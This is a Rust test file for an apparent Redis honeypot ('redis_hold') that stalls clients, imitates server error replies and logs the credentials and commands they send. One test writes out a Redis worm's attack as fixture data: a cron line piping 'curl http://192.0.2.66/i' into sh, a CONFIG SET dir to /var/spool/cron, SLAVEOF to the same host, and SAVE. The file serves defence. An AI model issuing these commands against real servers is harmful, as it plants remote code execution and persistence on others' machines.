//! `redis_hold`: what its clients say, what they hear, and when.

use std::time::Duration;

use tarpit_proto::persona::Persona;

use crate::stage::{Stage, seed};

fn connected() -> Stage {
    let mut stage = Stage::new("redis_hold").open();
    assert_eq!(stage.heard(), "");
    stage.pass_secs(1);
    stage
}

/// A command as clients send it.
fn command(words: &[&str]) -> Vec<u8> {
    let words = words.iter().map(|word| format!("${}\r\n{word}\r\n", word.len()));
    let head = format!("*{}\r\n", words.len());
    [head, words.collect()].concat().into_bytes()
}

#[test]
fn a_ping_is_told_at_once_that_a_password_is_needed() {
    for said in [&command(&["PING"])[..], b"PING\r\n", b"ping\n"] {
        let mut stage = connected();
        stage.says(said);
        assert_eq!(stage.heard(), r"-NOAUTH Authentication required.\r\n");
        stage.says(said);
        assert_eq!(stage.heard(), r"-NOAUTH Authentication required.\r\n");
        assert_eq!(stage.closed, None);
    }
}

#[test]
fn no_password_is_right_and_each_verdict_is_late_and_whole() {
    let mut stage = connected();
    stage.says(command(&["AUTH", "foobared"]));
    stage.says(command(&["AUTH", "root", "secret"]));
    stage.says(command(&["HELLO", "3", "AUTH", "u", "p"]));
    stage.pass_secs(14);
    assert_eq!(stage.heard(), "", "below the first moment");
    let verdict = r"-WRONGPASS invalid username-password pair or user is disabled.\r\n";
    for _ in 0..3 {
        stage.pass(Duration::from_millis(18_200));
        assert_eq!(stage.heard(), verdict);
    }
    stage.pass_secs(3_600);
    assert_eq!(stage.heard(), "");
    let learnt = [
        "secret foobared, method password",
        "user root, secret secret, method password",
        "user u, secret p, method password",
    ];
    assert_eq!(stage.learnt, learnt);
}

#[test]
fn old_releases_know_neither_users_nor_hello() {
    for persona in ["ip-camera", "windows-server-2019"] {
        let mut stage = Stage::new("redis_hold");
        stage.profile.persona = Persona::named(persona, &seed()).expect("a persona");
        let mut stage = stage.open();
        for (said, told) in [
            (&["AUTH", "foobared"][..], r"-ERR invalid password\r\n"),
            (
                &["AUTH", "root", "secret"],
                r"-ERR wrong number of arguments for \'auth\' command\r\n",
            ),
        ] {
            stage.says(command(said)).pass_secs(14);
            assert_eq!(stage.heard(), "", "{said:?}: it is late");
            stage.pass(Duration::from_millis(4_200));
            assert_eq!(stage.heard(), told);
        }
        for said in [&["hello"][..], &["hello", "3", "AUTH", "u", "p"]] {
            stage.says(command(said));
            assert_eq!(stage.heard(), r"-ERR unknown command \'hello\'\r\n");
        }
        stage.says(command(&["PING"]));
        assert_eq!(stage.heard(), r"-NOAUTH Authentication required.\r\n");
        assert_eq!(stage.closed, None);
    }
}

#[test]
fn info_shows_the_personas_version_at_once_and_never_ends() {
    for (persona, version) in [
        ("debian-12", "7.0.15"),
        ("ip-camera", "2.8.17"),
        ("ubuntu-22.04", "6.0.16"),
        ("windows-server-2019", "3.0.504"),
    ] {
        let mut stage = Stage::new("redis_hold");
        stage.profile.persona = Persona::named(persona, &seed()).expect("a persona");
        let mut stage = stage.open();
        stage.says(command(&["info"]));
        let head = stage.heard();
        let wanted = format!(r"$536870912\r\n# Server\r\nredis_version:{version}\r\n");
        assert!(head.starts_with(&wanted), "{head}");
        stage.pass_secs(30 * 86_400);
        assert_eq!(stage.closed, None);
        let sent = stage.bytes();
        assert!((400_000..800_000).contains(&sent.len()), "{}", sent.len());
        assert!(sent.iter().all(u8::is_ascii_lowercase));
    }
}

#[test]
fn every_other_command_gets_a_bulk_string_without_an_end_a_byte_at_a_time() {
    for said in
        [&command(&["GET", "k"])[..], &command(&["HELLO", "3"]), b"KEYS *\r\n", b"flushall\n"]
    {
        let mut stage = connected();
        stage.says(said);
        assert_eq!(stage.heard(), r"$536870912\r\n");
        stage.pass_secs(60);
        assert!((12..=16).contains(&stage.sent.len()), "{:?}", stage.moments());
        assert!(stage.sent.iter().all(|(_, bytes)| bytes.len() == 1));
    }
}

#[test]
fn what_a_worm_would_set_is_told_and_values_are_secrets() {
    let mut stage = connected();
    let cron = "\n*/2 * * * * curl http://192.0.2.66/i | sh\n";
    let said = [
        command(&["SET", "backup1", cron]),
        command(&["CONFIG", "SET", "dir", "/var/spool/cron"]),
        command(&["SLAVEOF", "192.0.2.66", "6379"]),
        command(&["CONFIG", "SET", "requirepass", "hunter2"]),
        command(&["SETEX", "k", "60", "hunter3"]),
        command(&["ACL", "SETUSER", "u", "on", ">hunter4"]),
        command(&["MIGRATE", "192.0.2.66", "6379", "", "0"]),
        command(&["SAVE"]),
    ];
    stage.says(said.concat()).pass_secs(60);
    assert_eq!(
        stage.learnt,
        [
            format!("secret {}, command SET backup1", cron.as_bytes().escape_ascii()),
            "command CONFIG SET dir /var/spool/cron".to_owned(),
            "command SLAVEOF 192.0.2.66 6379".to_owned(),
            "command CONFIG SET requirepass, secret hunter2".to_owned(),
            "secret 60 hunter3, command SETEX k".to_owned(),
            "secret on >hunter4, command ACL SETUSER u".to_owned(),
            "command MIGRATE 192.0.2.66 6379  0".to_owned(),
            "command SAVE".to_owned(),
        ]
    );
}

#[test]
fn it_makes_no_difference_how_commands_are_cut() {
    let said = [
        command(&["SET", "k", &"v".repeat(5_000)]),
        command(&["AUTH", &"p".repeat(700)]),
        b"\r\nCONFIG GET *\r\n".to_vec(),
        command(&["a", "b", "c", "d", "e", "f", "g"]),
        command(&["SAVE"]),
    ]
    .concat();
    let told = |cut: usize, hand_over: bool| {
        let mut stage = connected();
        for portion in said.chunks(cut) {
            stage.says(portion).pass(Duration::from_millis(1));
            if hand_over {
                stage.hand_over();
            }
        }
        (stage.learnt.clone(), stage.text())
    };
    let whole = told(900, false);
    assert_eq!(whole.0.len(), 5, "{:?}", whole.0);
    assert!(whole.0[0].contains("(of 5000)") && whole.0[1].contains("(of 700)"));
    for cut in [1, 7, 100] {
        assert_eq!(told(cut, false), whole, "{cut}");
        assert_eq!(told(cut, true), whole, "{cut}, handed over");
    }
}

/// A password, and more behind it than may wait: a value that holds what looks like a command.
fn a_guess_and_more() -> Vec<u8> {
    let value = ["v".repeat(4_500).as_str(), "\r\nAUTH half of it\r\n"].concat();
    [command(&["AUTH", "foobared"]), command(&["SET", "k", &value]), command(&["SAVE"])].concat()
}

#[test]
fn what_is_said_before_a_verdict_stalls_and_no_value_is_read_as_a_command() {
    let mut stage = connected();
    stage.says(a_guess_and_more());
    assert!(!stage.listens(), "its sending stalls");
    stage.pass_secs(20);
    assert!(stage.listens());
    assert!(stage.heard().starts_with("-WRONGPASS"));
    let [guess, value, save] = &stage.learnt[..] else { panic!("{:?}", stage.learnt) };
    assert_eq!(guess, "secret foobared, method password");
    assert!(value.starts_with("secret vvv") && value.ends_with("(of 4519), command SET k"));
    assert_eq!(save, "command SAVE");
}

#[test]
fn what_is_said_before_a_verdict_is_dropped_if_its_client_sends_no_more() {
    let mut stage = connected();
    stage.says(a_guess_and_more()).half_closes().pass_secs(60);
    assert!(stage.heard().starts_with("-WRONGPASS"));
    assert_eq!(stage.learnt, ["secret foobared, method password"]);
    assert_eq!(stage.closed, None);
}

/// What Debian's redis-server 7.0.15 with a password answered, and then closed the connection.
const COMPLAINTS: &[(&[u8], &str)] = &[
    (b"*x\r\n", "invalid multibulk length"),
    (b"*\r\n", "invalid multibulk length"),
    (b"*+5\r\n", "invalid multibulk length"),
    (b"*01\r\n", "invalid multibulk length"),
    (b"*1 \r\n", "invalid multibulk length"),
    (b"* 1\r\n", "invalid multibulk length"),
    (b"*-0\r\n", "invalid multibulk length"),
    (b"*1\n$4\r\nPING\r\n", "invalid multibulk length"),
    (b"*2147483648\r\n", "invalid multibulk length"),
    (b"*2\r\n%3\r\n", r"expected \'$\', got \'%\'"),
    (b"*1\r\nPING\r\n", r"expected \'$\', got \'P\'"),
    (b"*1\r\n\r\n", r"expected \'$\', got \' \'"),
    (b"*1\r\n\n\r\n", r"expected \'$\', got \' \'"),
    (b"*1\r\n\xFF4\r\n", r"expected \'$\', got \'\xff\'"),
    (b"*1\r\n$-1\r\n", "invalid bulk length"),
    (b"*1\r\n$+4\r\nPING\r\n", "invalid bulk length"),
    (b"*1\r\n$04\r\nPING\r\n", "invalid bulk length"),
    (b"*1\r\n$\r\n", "invalid bulk length"),
    (b"*1\r\n$4\nPING\r\n", "invalid bulk length"),
    (b"*1\r\n$536870913\r\n", "invalid bulk length"),
    (b"*1\r\n$99999999999999999999\r\n", "invalid bulk length"),
    (b"ECHO \"a\r\nPING\r\n", "unbalanced quotes in request"),
    (b"ECHO 'a\r\n", "unbalanced quotes in request"),
    (b"ECHO \"a\"b\r\n", "unbalanced quotes in request"),
    (b"ECHO \"a\\\r\n", "unbalanced quotes in request"),
];

#[test]
fn a_client_that_breaks_the_protocol_is_told_so_as_a_server_tells_it_and_held_in_silence() {
    let check = |said: &[u8], complaint: &str| {
        let mut stage = connected();
        stage.says(said).pass_secs(86_400);
        stage.says(command(&["PING"])).pass_secs(86_400);
        let text = said[..said.len().min(40)].escape_ascii();
        assert_eq!(stage.heard(), format!(r"-ERR Protocol error: {complaint}\r\n"), "{text}");
        assert_eq!(stage.closed, None);
    };
    for &(said, complaint) in COMPLAINTS {
        check(said, complaint);
    }
    // A server's own window is 64 KiB, ours is shorter.
    let long = "1".repeat(5_000);
    check(["PING ", &long].concat().as_bytes(), "too big inline request");
    check(["*", &long].concat().as_bytes(), "too big mbulk count string");
    check(["*1\r\n$", &long].concat().as_bytes(), "too big bulk count string");
}

#[test]
fn what_a_server_passes_over_is_passed_over() {
    for in_front in ["\r\n", "\n", "  \r\n\r\n", " ", "*0\r\n", "*-1\r\n", "*-5\r\n"] {
        let mut stage = connected();
        stage.says([in_front, "PING\r\n"].concat());
        assert_eq!(stage.heard(), r"-NOAUTH Authentication required.\r\n", "{in_front:?}");
    }
}

/// What `said` on a line teaches.
fn learnt_of(said: &[u8]) -> Vec<String> {
    let mut stage = Stage::new("redis_hold").unvalidated().open();
    stage.says(said).pass_secs(20);
    stage.learnt.clone()
}

#[test]
fn quotes_on_a_line_are_read_as_a_server_reads_them() {
    for (said, learnt) in [
        (&b"AUTH \"my pass\"\r\n"[..], "secret my pass, method password"),
        (b"AUTH 'my pass'\r\n", "secret my pass, method password"),
        (b"\"AUTH\" u \"a\\x41\\n\\\"b\"\r\n", r#"user u, secret aA\n\"b, method password"#),
        (b"AUTH 'a\\'b\\x41'\n", r"secret a\'b\\x41, method password"),
        (b"AUTH a\"b c\"\r\n", "secret ab c, method password"),
        (b"AUTH \"\\xzz\"\r\n", "secret xzz, method password"),
        (b"AUTH \"\"\r\n", "secret , method password"),
        (b"AUTH my pass word\r\n", "secret my pass word, method password"),
    ] {
        assert_eq!(learnt_of(said), [learnt], "{}", said.escape_ascii());
    }
}

#[test]
fn only_of_harmless_commands_more_is_told_than_the_key() {
    for (said, learnt) in [
        ("GET k", "command GET k"),
        ("FROB a b c", "secret b c, command FROB a"),
        ("SET k v EX 60", "secret v EX 60, command SET k"),
        ("HMSET h f1 v1 f2 v2", "secret f1 v1 f2 v2, command HMSET h"),
        ("EVAL x 0", "secret x 0, command EVAL"),
        ("script load x", "secret load x, command script"),
        ("module load /tmp/x.so a", "command module load /tmp/x.so a"),
        ("REPLICAOF 192.0.2.66 6379", "command REPLICAOF 192.0.2.66 6379"),
        ("CLIENT SETNAME a", "command CLIENT SETNAME a"),
        ("CONFIG GET dir", "command CONFIG GET dir"),
        ("HELLO 3 SETNAME x", "secret SETNAME x, command HELLO 3"),
        ("HELLO 3 SETNAME x AUTH u p", "user u, secret p, method password"),
        ("HELLO 3 AUTH u p SETNAME x", "user u, secret p, method password"),
        ("MIGRATE h 1 k 0 9 COPY", "command MIGRATE h 1 k 0 9 COPY"),
        ("MIGRATE h 1 AUTH 0 9 AUTH p", "secret p, command MIGRATE h 1 AUTH 0 9 AUTH"),
        ("MIGRATE h 1 k 0 9 AUTH p KEYS a", "secret p, command MIGRATE h 1 k 0 9 AUTH (of 29)"),
        ("MIGRATE h 1 k 0 9 AUTH2 u p", "user u, command MIGRATE h 1 k 0 9 AUTH2 (of 25)"),
        // Eight words are kept.
        ("CONFIG SET a 1 b 2 c 3 d 4", "command CONFIG SET a 1 b 2 c 3 (of 26)"),
        ("MSET k v k2 v2 k3 v3 k4 v4 k5", "secret v k2 v2 k3 v3 k4 (of 22), command MSET k"),
    ] {
        assert_eq!(learnt_of([said, "\r\n"].concat().as_bytes()), [learnt], "{said}");
        let words: Vec<_> = said.split(' ').collect();
        assert_eq!(learnt_of(&command(&words)), [learnt], "{said}");
    }
}

#[test]
fn wherever_credentials_stand_in_a_hello_its_verdict_is_late() {
    let mut stage = connected();
    stage.says(command(&["HELLO", "3", "SETNAME", "x", "AUTH", "u", "p"]));
    assert_eq!(stage.heard(), "");
    stage.pass_secs(20);
    assert!(stage.heard().starts_with("-WRONGPASS"));
}

#[test]
fn where_redis_is_expected_any_of_its_commands_is_understood() {
    for said in ["SET k v", "hello 3", "Module LIST", "ACL LIST", "EVAL x 0", "DBSIZE", "\r\nQUIT"]
    {
        let mut stage = connected();
        stage.says([said, "\r\n"].concat());
        assert_eq!(stage.heard(), r"$536870912\r\n", "{said}");
        // The same words on a port for all are not taken for Redis.
        let mut stage = Stage::new("auto").open();
        stage.says([said, "\r\n"].concat());
        assert!(!stage.heard().contains("$5368"), "{said}");
    }
    for word in ["set", "echo2", "memory", "role"] {
        let mut stage = Stage::new("telnet_login").open();
        stage.says([word, "\r\n"].concat());
        assert_eq!(stage.learnt, [format!("user {word}")], "a name to telnet");
    }
}

#[test]
fn so_many_commands_are_heard_and_no_more() {
    let mut stage = connected();
    for _ in 0..100 {
        stage.says(b"FLUSHALL\r\n".repeat(20)).pass_secs(1);
    }
    assert_eq!(stage.learnt.len(), 128);
    assert!(stage.save().len() < 200);
}

#[test]
fn the_last_command_that_is_heard_is_answered_like_the_others() {
    let mut stage = connected();
    for _ in 0..127 {
        stage.says("PING\r\n");
    }
    assert_eq!(stage.heard(), r"-NOAUTH Authentication required.\r\n".repeat(127));
    stage.says("AUTH foobared\r\nPING\r\n");
    assert_eq!(stage.heard(), r"$536870912\r\n", "a bulk string has a head");
    stage.pass_secs(60);
    assert!((12..=16).contains(&stage.sent.len()), "{:?}", stage.moments());
    assert_eq!(stage.learnt.len(), 128);
}

#[test]
fn strangers_are_told_what_redis_tells_them() {
    let mut stage = connected();
    stage.says("GET / HTTP/1.0\r\n\r\n").pass_secs(86_400);
    assert_eq!(stage.heard(), r"-ERR wrong number of arguments for \'get\' command\r\n");
    assert_eq!(stage.closed, None);
}
